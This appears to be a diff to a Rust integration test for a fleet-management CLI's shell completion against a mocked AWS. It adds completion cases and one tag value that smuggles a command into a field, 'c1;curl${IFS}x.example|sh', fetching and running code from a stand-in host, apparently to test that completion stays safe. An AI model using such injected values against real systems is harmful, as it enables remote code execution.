@@ -4,6 +4,7 @@ use std::path::PathBuf;
 use std::time::{Duration, SystemTime};
 
 use anyhow::{Context as _, Result};
+use aws_sdk_ec2::types::Tag;
 use fleetkey_tests::moto::Moto;
 use fleetkey_tests::program;
 use fleetkey_tests::proxy::Proxy;
@@ -59,6 +60,8 @@ async fn names_that_list_has_shown_are_completed_without_a_call_to_aws() -> Resu
     let tags = [("Name", "prod_web"), ("generation", "0"), ("cluster_name", "c1"), ("cluster_ordinal", "0")];
     let web = launch(&operator.cloud, &tags).await?;
     let db = launch_box(&operator.cloud, "prod_db").await?;
+    let hostile = Tag::builder().key("cluster_name").value("c1;curl${IFS}x.example|sh").build();
+    operator.cloud.ec2().create_tags().resources(&db).tags(hostile).send().await?;
     assert_eq!(complete(&operator, &["ssh", "-n", "/prod/", "w"]).await?, Vec::<String>::new());
     operator.verb("/prod/", &["list"]).await?.ended(0);
 
@@ -72,6 +75,13 @@ async fn names_that_list_has_shown_are_completed_without_a_call_to_aws() -> Resu
         (&["stop", "-n", "/prod/", "web", "-o", ""], &["0"]),
         (&["list", "-n", "/prod/", "-c", ""], &["c1"]),
         (&["rsync", "-n", "/prod/", "we"], &["web"]),
+        (&["list-volumes", "-n", "/prod/", "w"], &["web"]),
+        (&["refresh-ingress", "-n", "/prod/", "w"], &["web"]),
+        (&["ssh-config", "-n", "/prod/", "w"], &["web"]),
+        // What is typed of these says where to look, so it is not looked there.
+        (&["list", "-n", "/p"], &["/prod/"]),
+        (&["list", "--namespace", ""], &["/", "/prod/"]),
+        (&["list", "-z", "us-w"], &["us-west-2a"]),
         // Another namespace is another list, of which nothing is known.
         (&["show", "-n", "/test/", "web", "-I", "i-"], &[]),
         (&["term"], &["terminate"]),
